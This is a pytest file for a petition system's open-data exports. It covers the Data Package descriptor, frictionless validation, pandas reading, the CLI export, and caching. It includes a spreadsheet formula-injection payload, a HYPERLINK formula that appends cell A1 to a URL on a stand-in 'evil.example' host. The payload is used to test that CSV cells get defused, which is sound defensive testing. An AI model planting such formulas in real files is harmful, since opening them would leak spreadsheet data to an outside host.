"""Open data that tools read right: the Data Package descriptor, validated by frictionless
and followed by pandas; timestamps to the second; CSV cells defused against spreadsheet
formulas (the security review's title among them, over HTTP and through `pakn export`);
and the exports' weak ETags, 304s and Cache-Control.

Each database test runs on SQLite and PostgreSQL against a real server.
"""

from __future__ import annotations

import contextlib
import csv
import importlib.util
import io
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import frictionless
import orjson
import pandas as pd
import pytest

from app import cli
from app.services.csv_cells import FORMULA_STARTS
from app.services.datapackage import DATETIME_FORMAT, LICENSE
from app.services.export_columns import (
    COLUMNS,
    PETITION_FIELDS,
    STATS_COLUMNS,
    STATS_FIELDS,
    Column,
)
from db.models import PetitionerContact
from tests.support.records import csv_records, ndjson_records
from tests.support.server import RunningServer
from tests.support.workflow import Workflow

README = Path(__file__).resolve().parents[2] / "README.md"
HAVE_JSONLINES = importlib.util.find_spec("jsonlines") is not None
NEEDS_JSONLINES = pytest.mark.skipif(
    not HAVE_JSONLINES,
    reason='frictionless reads NDJSON through jsonlines: pip install "frictionless[json]"',
)
WHOLE_SECOND = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+07:00")
TIME_COLUMNS = [c.name for c in PETITION_FIELDS if c.type == "datetime"]


# --- helpers ---------------------------------------------------------------


def descriptor_url(server: RunningServer, query: str = "") -> str:
    return f"{server.url}/export/datapackage.json{query}"


def validation_errors(source: str, *, ndjson: bool = HAVE_JSONLINES) -> list[list[Any]]:
    """What `frictionless validate <source>` finds, as rows of (resource, row, field, type,
    note); without jsonlines the NDJSON resource is left out (see NEEDS_JSONLINES)."""
    package = frictionless.Package(source)
    if not ndjson and "petitions-ndjson" in package.resource_names:
        package.remove_resource("petitions-ndjson")
    report = package.validate()
    assert report.tasks, "nothing was validated"
    return report.flatten(["name", "rowNumber", "fieldName", "type", "note"])  # type: ignore[no-any-return]


PANDAS_DTYPES = {"string": "string", "integer": "Int64", "number": "Float64", "boolean": "boolean"}


def read_with_pandas(url: str, resource: dict[str, Any]) -> pd.DataFrame:
    """A CSV resource read by pandas with the types its Table Schema gives: Frictionless
    types as pandas dtypes, datetimes parsed with their format, only "" as null."""
    fields = resource["schema"]["fields"]
    assert set(resource["schema"]["missingValues"]) == {""}
    for field in fields:
        if field["type"] == "boolean":
            assert (field["trueValues"], field["falseValues"]) == (["true"], ["false"])
    return pd.read_csv(
        url,
        encoding=resource["encoding"],
        sep=resource["dialect"]["delimiter"],
        quotechar=resource["dialect"]["quoteChar"],
        header=0 if resource["dialect"]["header"] else None,
        dtype={f["name"]: PANDAS_DTYPES[f["type"]] for f in fields if f["type"] in PANDAS_DTYPES},
        parse_dates=[f["name"] for f in fields if f["type"] == "datetime"],
        date_format={f["name"]: f["format"] for f in fields if f["type"] == "datetime"},
        keep_default_na=False,
        na_values=[""],
    )


def marked_block(marker: str) -> str:
    """The text of README between `<!-- marker -->` and `<!-- /marker -->`."""
    text = README.read_text()
    found = re.search(rf"<!-- {marker} -->\n(.*?)<!-- /{marker} -->", text, re.DOTALL)
    assert found, f"README has no {marker} block"
    return found.group(1)


def column_table(columns: tuple[Column, ...]) -> str:
    lines = ["| column | type | holds |", "| --- | --- | --- |"]
    lines += [f"| `{c.name}` | {c.type} | {c.description} |" for c in columns]
    return "\n".join(lines) + "\n"


# --- the descriptor --------------------------------------------------------


def test_the_descriptor_describes_every_column(demo_server: RunningServer) -> None:
    response = demo_server.client.get("/export/datapackage.json")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    package = orjson.loads(response.content)
    assert package["licenses"] == [LICENSE] and LICENSE["name"] == "CC-BY-4.0"
    resources = {r["name"]: r for r in package["resources"]}
    assert list(resources) == ["petitions", "petitions-ndjson", "stats"]
    assert resources["petitions"]["path"] == "petitions.csv"
    assert resources["petitions-ndjson"]["path"] == "petitions.ndjson"
    assert resources["stats"]["path"] == "stats.csv"
    for name in ("petitions", "stats"):
        resource = resources[name]
        assert resource["profile"] == "tabular-data-resource"
        assert resource["encoding"] == "utf-8" and resource["format"] == "csv"
        assert resource["dialect"]["header"] is True
        assert resource["dialect"]["delimiter"] == ","
        assert "byte-order mark" in resource["description"]
    petitions = resources["petitions"]["schema"]
    assert resources["petitions-ndjson"]["schema"] == petitions
    assert [f["name"] for f in petitions["fields"]] == list(COLUMNS)
    assert petitions["primaryKey"] == ["tracking_code"]
    by_name = {f["name"]: f for f in petitions["fields"]}
    assert by_name["province_code"]["type"] == by_name["field_code"]["type"] == "string"
    assert by_name["submitted_at"] == {
        "name": "submitted_at",
        "type": "datetime",
        "description": "when it was submitted",
        "format": DATETIME_FORMAT,
        "constraints": {"required": True},
    }
    assert by_name["is_overdue"]["trueValues"] == ["true"]
    assert by_name["rating_score"]["constraints"] == {"minimum": 1, "maximum": 5}
    assert by_name["status"]["constraints"]["enum"][0] == "SUBMITTED"
    stats = resources["stats"]["schema"]
    assert [f["name"] for f in stats["fields"]] == list(STATS_COLUMNS)
    assert {f["type"] for f in stats["fields"]} == {"string", "integer", "number"}
    # Nothing of the petitioner: no contact column is exported or named.
    personal = set(PetitionerContact.__table__.columns.keys()) - {"petition_id"}
    assert personal >= {"full_name", "email", "phone", "address", "tax_code"}
    assert not personal & set(COLUMNS)
    assert not [name for name in personal if name in response.text]


def test_frictionless_validates_the_export_through_the_served_descriptor(
    demo_server: RunningServer,
) -> None:
    assert validation_errors(descriptor_url(demo_server)) == []
    query = "?statuses=answered,CLOSED&provinceCodes=01&submittedFrom=2025-01-01T00:00:00%2B07:00"
    package = orjson.loads(demo_server.client.get(f"/export/datapackage.json{query}").content)
    paths = {r["name"]: r["path"] for r in package["resources"]}
    canonical = (
        "?statuses=ANSWERED,CLOSED&provinceCodes=01&submittedFrom=2025-01-01T00:00:00%2B07:00"
    )
    assert paths["petitions"] == f"petitions.csv{canonical}"
    assert paths["stats"] == "stats.csv?provinceCodes=01"
    assert validation_errors(descriptor_url(demo_server, query)) == []
    rows = csv_records(demo_server.client.get(f"/export/{paths['petitions']}").content)
    assert rows and {r["province_code"] for r in rows} == {"01"}


def test_the_ndjson_rows_fit_the_descriptor_schema(demo_server: RunningServer) -> None:
    """Checked as inline data too, so jsonlines is not needed for it."""
    package = orjson.loads(demo_server.client.get("/export/datapackage.json").content)
    ndjson = next(r for r in package["resources"] if r["name"] == "petitions-ndjson")
    rows = ndjson_records(demo_server.client.get("/export/petitions.ndjson").content)
    resource = frictionless.Resource(
        data=rows, schema=frictionless.Schema.from_descriptor(ndjson["schema"])
    )
    report = resource.validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert report.tasks[0].stats["rows"] == len(rows)


@NEEDS_JSONLINES
def test_frictionless_validate_command_on_the_descriptor_url(demo_server: RunningServer) -> None:
    """Exactly what a user types: `frictionless validate <URL>`, every resource."""
    done = subprocess.run(
        [sys.executable, "-m", "frictionless", "validate", "--json", descriptor_url(demo_server)],
        capture_output=True,
        timeout=300,
        check=False,
    )
    report = orjson.loads(done.stdout)
    assert report["valid"], done.stdout[:4000]
    assert done.returncode == 0
    assert sorted(task["name"] for task in report["tasks"]) == [
        "petitions",
        "petitions-ndjson",
        "stats",
    ]


def test_bad_descriptor_filters_are_refused(demo_server: RunningServer) -> None:
    for params, code in (
        ({"agencyCodes": "NOPE"}, "UNKNOWN_CODE"),
        ({"bom": "false"}, "BAD_REQUEST"),
        ({"statuses": "OPEN"}, "BAD_REQUEST"),
    ):
        response = demo_server.client.get("/export/datapackage.json", params=params)
        assert response.status_code == 400
        assert [e["extensions"]["code"] for e in response.json()["errors"]] == [code]


# --- pandas ----------------------------------------------------------------


def test_pandas_reads_the_csv_through_the_descriptor(demo_server: RunningServer) -> None:
    url = descriptor_url(demo_server)
    package = orjson.loads(demo_server.client.get("/export/datapackage.json").content)
    resource = next(r for r in package["resources"] if r["name"] == "petitions")
    frame = read_with_pandas(f"{demo_server.url}/export/{resource['path']}", resource)
    expected = ndjson_records(demo_server.client.get("/export/petitions.ndjson").content)
    assert list(frame.columns) == list(COLUMNS)
    assert list(frame["tracking_code"]) == [r["tracking_code"] for r in expected]
    assert str(frame["province_code"].dtype) == "string"
    assert str(frame["field_code"].dtype) == "string"
    provinces = [p for p in frame["province_code"] if p is not pd.NA]
    assert "01" in provinces and all(len(p) == 2 for p in provinces)
    assert list(frame["province_code"].fillna("")) == [r["province_code"] or "" for r in expected]
    for column in TIME_COLUMNS:
        assert isinstance(frame[column].dtype, pd.DatetimeTZDtype), column
        assert frame[column].dt.tz.utcoffset(None) == timedelta(hours=7)
    first = expected[0]
    assert frame["submitted_at"][0] == datetime.fromisoformat(first["submitted_at"])
    assert str(frame["is_overdue"].dtype) == "boolean"
    assert list(frame["is_overdue"]) == [r["is_overdue"] for r in expected]
    assert str(frame["answer_count"].dtype) == "Int64"
    # frictionless' own pandas plugin agrees (it works with the installed pandas).
    plugin = frictionless.Package(url).get_resource("petitions").to_pandas()
    assert list(plugin.index) == [r["tracking_code"] for r in expected]
    assert "01" in set(plugin["province_code"])


def test_the_readme_pandas_snippet_runs(demo_server: RunningServer) -> None:
    block = marked_block("pandas-snippet")
    code = re.fullmatch(r"```python\n(.*)```\n", block, re.DOTALL)
    assert code, "the pandas snippet is one python block"
    source = code.group(1)
    assert "http://127.0.0.1:8000" in source
    namespace: dict[str, Any] = {}
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        exec(
            compile(source.replace("http://127.0.0.1:8000", demo_server.url), "README", "exec"),
            namespace,
        )
    petitions = namespace["petitions"]
    assert "province_code" in printed.getvalue()
    assert len(petitions) == len(
        csv_records(demo_server.client.get("/export/petitions.csv").content)
    )
    assert "01" in set(petitions["province_code"].dropna())
    assert isinstance(petitions["submitted_at"].dtype, pd.DatetimeTZDtype)
    assert str(petitions["field_code"].dtype) == "string"


def test_readme_column_tables_are_the_code_s() -> None:
    assert marked_block("petition-columns") == column_table(PETITION_FIELDS)
    assert marked_block("stats-columns") == column_table(STATS_FIELDS)


# --- pakn export's descriptor ----------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", pytest.param("ndjson", marks=NEEDS_JSONLINES)])
def test_pakn_export_writes_a_descriptor_that_validates_offline(
    demo_server: RunningServer,
    demo_database: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    fmt: str,
) -> None:
    monkeypatch.setenv("PAKN_DATABASE_URL", demo_database)
    output = tmp_path / f"answered.{fmt}"
    args = ["--format", fmt, "--output", str(output), "--status", "closed,ANSWERED"]
    assert cli.main(["export", "petitions", *args]) == 0
    descriptor = tmp_path / f"answered.{fmt}.datapackage.json"
    package = orjson.loads(descriptor.read_bytes())
    (resource,) = package["resources"]
    assert resource["path"] == output.name and resource["format"] == fmt
    assert "statuses=ANSWERED,CLOSED" in package["description"]
    assert package["licenses"] == [LICENSE]
    assert WHOLE_SECOND.fullmatch(package["created"])
    served = orjson.loads(demo_server.client.get("/export/datapackage.json").content)
    assert resource["schema"] == served["resources"][0]["schema"]
    assert validation_errors(str(descriptor)) == []


# --- formula cells (issue 13, point 4) -------------------------------------

REVIEW_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bam vao day")'
"""The security review's title, as it submitted it."""
FORMULA_TITLES = {
    "=": REVIEW_TITLE,
    "+": "+84 912 345 678: đường dây nóng của sở không ai nghe máy",
    "-": "-2+3 ngày làm việc là thời hạn ghi trên phiếu hẹn, nay đã quá",
    "@": "@SUM(1+1) biểu mẫu đăng ký kinh doanh trực tuyến không tải được",
    "\t": "\t=1+1 cán bộ một cửa yêu cầu nộp thêm giấy tờ",
    "\r": "\r-1+1 hồ sơ bị trả lại nhiều lần không rõ lý do",
}
"""A title per character a spreadsheet starts a formula with. Submission trims a leading
tab or carriage return (`app.domain.validation.clean_text`), so no stored text starts
with one; what follows them here is a formula all the same. Cells that do start with them
are held to the rule without a database (test_csv_lines_are_what_the_csv_module_writes)."""
FORMULA_BODY = "+1 " + "cán bộ không tiếp nhận hồ sơ và không giải thích lý do. " * 2


def _formula_submissions(workflow: Workflow) -> tuple[str, dict[str, str]]:
    """Submit FORMULA_TITLES (the `+` one with FORMULA_BODY); (the time just before,
    {tracking code: the title as the API shows it})."""
    started = (datetime.now(UTC) - timedelta(seconds=2)).isoformat()
    titles = {}
    for first, title in FORMULA_TITLES.items():
        extra = {"body": FORMULA_BODY} if first == "+" else {}
        petition = workflow.submit(title=title, **extra)["petition"]
        titles[petition["trackingCode"]] = workflow.public_view(petition["trackingCode"])["title"]
    return started, titles


def test_formula_cells_are_neutralised_in_petitions_csv_at_once_and_not_in_ndjson(
    workflow: Workflow,
) -> None:
    started, titles = _formula_submissions(workflow)
    assert titles[next(iter(titles))] == REVIEW_TITLE
    assert all(title[:1] in FORMULA_STARTS for title in titles.values())
    params = {"submittedFrom": started}
    client = workflow.server.client

    raw = client.get("/export/petitions.csv", params=params).content
    assert b'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bam vao day"")"' in raw
    exported = {r["tracking_code"]: r for r in csv_records(raw)}
    assert {code: exported[code]["title"] for code in titles} == {
        code: "'" + title for code, title in titles.items()
    }
    plus = next(code for code, title in titles.items() if title.startswith("+84"))
    assert exported[plus]["body"] == "'" + FORMULA_BODY.strip()

    ndjson = ndjson_records(client.get("/export/petitions.ndjson", params=params).content)
    as_stored = {r["tracking_code"]: r for r in ndjson}
    assert {code: as_stored[code]["title"] for code in titles} == titles
    assert as_stored[plus]["body"] == FORMULA_BODY.strip()


def test_pakn_export_neutralises_formula_cells_as_the_http_export_does(
    workflow: Workflow,
    lifecycle_database: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    started, titles = _formula_submissions(workflow)
    monkeypatch.setenv("PAKN_DATABASE_URL", lifecycle_database)
    files = {}
    for fmt in ("csv", "ndjson"):
        files[fmt] = tmp_path / f"formulas.{fmt}"
        args = ["--format", fmt, "--output", str(files[fmt]), "--from", started]
        assert cli.main(["export", "petitions", *args]) == 0
    written = {r["tracking_code"]: r for r in csv_records(files["csv"].read_bytes())}
    assert {code: written[code]["title"] for code in titles} == {
        code: "'" + title for code, title in titles.items()
    }
    served = workflow.server.client.get("/export/petitions.csv", params={"submittedFrom": started})
    assert list(written.values()) == csv_records(served.content)
    as_stored = {r["tracking_code"]: r for r in ndjson_records(files["ndjson"].read_bytes())}
    assert {code: as_stored[code]["title"] for code in titles} == titles


STATS_KEY = re.compile(r"[A-Z0-9]+(?:[_-][A-Z0-9]+)*|\d{4}-\d\d")


def test_stats_csv_text_cells_are_codes_and_months_no_client_writes(
    demo_server: RunningServer,
) -> None:
    """The statistics CSV's only text cells are `breakdown` (six fixed words) and `key`:
    an agency, field or province code of the reference data (`app.domain.reference`,
    seeded by `db.seed`; no request adds or renames one), a month or an intake channel.
    None is written by a client, so none can start like a formula; `stats_csv` defuses
    `key` all the same (test_stats_csv_defuses_its_keys)."""
    raw = demo_server.client.get("/export/stats.csv").content
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert {row["breakdown"] for row in rows} == {
        "total",
        "agency",
        "field",
        "province",
        "month",
        "intake_channel",
    }
    keys = [row["key"] for row in rows if row["breakdown"] != "total"]
    assert keys and [key for key in keys if not STATS_KEY.fullmatch(key)] == []
    assert not [key for key in keys if key[:1] in FORMULA_STARTS]
    text = {f.name for f in STATS_FIELDS if f.type == "string"}
    assert text == {"breakdown", "key"}


def test_the_descriptor_states_the_formula_rule_for_the_csv_resources_only(
    demo_server: RunningServer,
) -> None:
    package = orjson.loads(demo_server.client.get("/export/datapackage.json").content)
    rule = "has a `'` put before it"
    for resource in package["resources"]:
        said = rule in resource["description"]
        assert said == (resource["format"] == "csv"), resource["name"]
        if said:
            for first in ("`=`", "`+`", "`-`", "`@`", "a tab", "a carriage return"):
                assert first in resource["description"]
